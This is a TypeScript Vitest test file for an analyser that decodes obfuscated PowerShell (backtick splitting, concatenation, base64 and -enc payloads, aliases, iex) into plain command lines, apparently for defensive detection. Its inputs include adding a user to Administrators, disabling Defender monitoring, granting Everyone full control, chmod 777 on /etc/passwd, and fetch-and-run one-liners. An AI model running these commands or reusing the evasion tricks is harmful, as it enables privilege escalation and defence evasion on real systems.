import { describe, expect, test } from 'vitest';
import { analyse } from '../../../../lib/languages/analyse.ts';
import type { Call } from '../../../../lib/languages/command.ts';

const calls = (text: string): Call[] =>
  analyse(text, 'powershell').commands.filter(one => one.kind === 'call' && !one.context.mentioned) as Call[];
const lines = (text: string) => calls(text).map(call => [call.program, ...call.words.map(word => word.text)].join(' '));
const last = (text: string) => lines(text).at(-1);
const utf16 = (text: string) => Buffer.from(text, 'utf16le').toString('base64');

describe('PowerShell text', () => {
  test.each([
    ['A`dd-Local`GroupMember Administrators alice', 'add-localgroupmember Administrators alice'],
    ["$g = 'Admin' + 'istrators'; Add-LocalGroupMember $g alice", 'add-localgroupmember Administrators alice'],
    ["Add-LocalGroupMember ('{1}{0}' -f 'trators', 'Adminis') alice", 'add-localgroupmember Administrators alice'],
    ["Add-LocalGroupMember ('Admin','istrators' -join '') alice", 'add-localgroupmember Administrators alice'],
    ['Add-LocalGroupMember "$([char]65)dministrators" alice', 'add-localgroupmember Administrators alice'],
    ["Add-LocalGroupMember ('xdministrators'.Replace('x','A')) alice", 'add-localgroupmember Administrators alice'],
    [
      "$p = @{ Group = 'Administrators'; Member = 'alice' }; Add-LocalGroupMember @p",
      'add-localgroupmember -Group Administrators -Member alice',
    ],
    [
      'Add-LocalGroupMember `\n  -Group Administrators `\n  -Member alice',
      'add-localgroupmember -Group Administrators -Member alice',
    ],
    ["& 'Add-LocalGroupMember' Administrators alice", 'add-localgroupmember Administrators alice'],
    ["$c = 'Add-LocalGroup' + 'Member'; & $c Administrators alice", 'add-localgroupmember Administrators alice'],
    [
      'Microsoft.PowerShell.LocalAccounts\\Add-LocalGroupMember Administrators alice',
      'add-localgroupmember Administrators alice',
    ],
    ['Set-Alias x Add-LocalGroupMember; x Administrators alice', 'add-localgroupmember Administrators alice'],
    ['sp HKLM:\\Software\\Example Name 0', 'set-itemproperty HKLM:\\Software\\Example Name 0'],
    ['Set-MpPreference -DisableRealtimeMonitoring:$true', 'set-mppreference -DisableRealtimeMonitoring:True'],
    ["@'\nnet user alice /add\n'@ | iex", 'net user alice /add'],
    ['-join (110,101,116 | ForEach-Object { [char]$_ }) | Out-Null; net user', 'net user'],
    ["iex ('net user alice' + ' /add')", 'net user alice /add'],
    [
      `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${Buffer.from('net user alice /add').toString('base64')}')))`,
      'net user alice /add',
    ],
    [`powershell -nop -w hidden -enc ${utf16('net user alice /add')}`, 'net user alice /add'],
    ['pwsh -NoProfile -Command "net user alice /add"', 'net user alice /add'],
    ['cmd /c "net user alice /add"', 'net user alice /add'],
    ["Start-Process net -ArgumentList 'user alice /add' -Verb RunAs", 'net user alice /add'],
    ['Invoke-Command -ComputerName web1 -ScriptBlock { net user alice /add }', 'net user alice /add'],
    ['foreach ($u in "alice") { net user $u /add }', 'net user alice /add'],
    ['if ($true) { net user alice /add } else { whoami }', 'whoami'],
    [
      "[ADSI]$g = 'WinNT://./Administrators,group'; $g.Add('WinNT://./alice')",
      '.add WinNT://./Administrators,group WinNT://./alice',
    ],
    [
      "[Microsoft.Win32.Registry]::SetValue('HKEY_LOCAL_MACHINE\\SOFTWARE\\Example', 'Name', 0)",
      '::setvalue Microsoft.Win32.Registry HKEY_LOCAL_MACHINE\\SOFTWARE\\Example Name 0',
    ],
    ['$u.AccountDisabled = $false', '.accountdisabled= $u False'],
    ['icacls "D:\\my data" /grant "Everyone:(OI)(CI)F"', 'icacls D:\\my data /grant Everyone:(OI)(CI)F'],
    ['icacls D:\\data /grant Everyone:(OI)(CI)F', 'icacls D:\\data /grant Everyone:(OI)(CI)F'],
    ['psql -c "GRANT ALL ON t TO PUBLIC"', 'psql -c GRANT ALL ON t TO PUBLIC'],
    ['wsl -u root chmod 777 /etc/passwd', 'chmod 777 /etc/passwd'],
  ])('%s', (text, expected) => expect(last(text)).toBe(expected));

  test('a comment, a quoted line and a here-string are not commands', () => {
    expect(lines("# net user alice /add\n<# net user alice /add #>\n$t = @'\nnet user alice /add\n'@")).toEqual([]);
    expect(lines("Write-Host 'net user alice /add'")).toEqual(['write-host net user alice /add']);
  });

  test('-WhatIf only pretends, -WhatIf:$false does not', () => {
    expect(calls('Remove-Item x -WhatIf')[0]?.context.dryRun).toBe(true);
    expect(calls('Remove-Item x -wh')[0]?.context.dryRun).toBe(true);
    expect(calls('Remove-Item x -WhatIf:$false')[0]?.context.dryRun).toBe(false);
    expect(calls('$WhatIfPreference = $true; Remove-Item x')[0]?.context.dryRun).toBe(true);
  });

  test('the other machine and full rights are known', () => {
    expect(calls('Invoke-Command -ComputerName web1 { net user }').at(-1)?.context.host).toBe('web1');
    expect(calls("Start-Process cmd -Verb RunAs -ArgumentList '/c net user'").at(-1)?.context.elevated).toBe(true);
  });

  test('what cannot be seen is said', () => {
    const reasons = (text: string) =>
      analyse(text, 'powershell').commands.flatMap(one => (one.kind === 'unseen' ? one.reason : []));
    expect(reasons('iex (iwr https://example.com/a.ps1)')).toEqual(['remote-script']);
    expect(reasons("iex ((New-Object Net.WebClient).DownloadString('https://example.com/a.ps1'))")).toEqual([
      'remote-script',
    ]);
    expect(reasons('irm https://example.com/a.ps1 | iex')).toEqual(['remote-script']);
    expect(reasons('& $tool /quiet')).toEqual(['variable']);
    expect(reasons('powershell -enc AAAA')).toEqual(['decoded']);
  });

  test('words know where they stand', () => {
    const text = 'Get-Acl C:\\data; Add-LocalGroupMember -Group Administrators -Member alice';
    const word = calls(text)[1]?.words.at(-1);
    expect(text.slice(word?.range.start, word?.range.end)).toBe('alice');
  });

  test('it is recognised without a hint', () => {
    for (const text of ['Add-ADGroupMember finance alice', '$a = Get-Acl D:\\x', "[ADSI]'WinNT://./x'", 'iex $a'])
      expect(analyse(text).language).toBe('powershell');
    for (const text of [
      'sudo add-apt-repository ppa:x/y',
      'update-alternatives --config java',
      'apt-get install x',
      'docker-compose up',
    ])
      expect(analyse(text).language).toBe('shell');
  });
});
